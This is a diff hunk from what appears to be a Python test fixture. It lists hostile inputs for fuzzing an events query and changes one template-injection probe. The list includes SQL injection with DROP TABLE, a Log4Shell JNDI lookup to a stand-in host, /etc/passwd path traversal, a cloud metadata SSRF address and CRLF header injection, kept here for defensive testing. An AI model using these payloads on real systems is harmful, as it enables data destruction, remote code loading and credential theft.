@@ -27,7 +27,7 @@ HOSTILE = [
     None, True, -1, 0, 10**9, 1e308, -0.0, "", " ", "\x00", "null", "NaN", "-1", "1e999", [], {}, [[[[]]]],
     {"$ne": None}, {"date": {"date": {}}}, ["2026-12-01"],
     "' OR 1=1 --", "'; DROP TABLE events; --", "\" UNION SELECT title FROM events --", "%", "_", "*",
-    "{{ 7*7 }}", "{% for e in events %}{{ e.title }}{% endfor %}", "${jndi:ldap://x.example/a}",
+    "{{ 7*11003 }}", "{% for e in events %}{{ e.title }}{% endfor %}", "${jndi:ldap://x.example/a}",
     "%s%n", "{0.__class__}",
     "../../../../etc/passwd", "file:///etc/passwd", "\\\\host\\share", "http://169.254.169.254/",
     "\u202e\u2066\u200b\ufeff", "\ud7ff\uffff\U0010ffff", "a\r\nSet-Cookie: x=1",
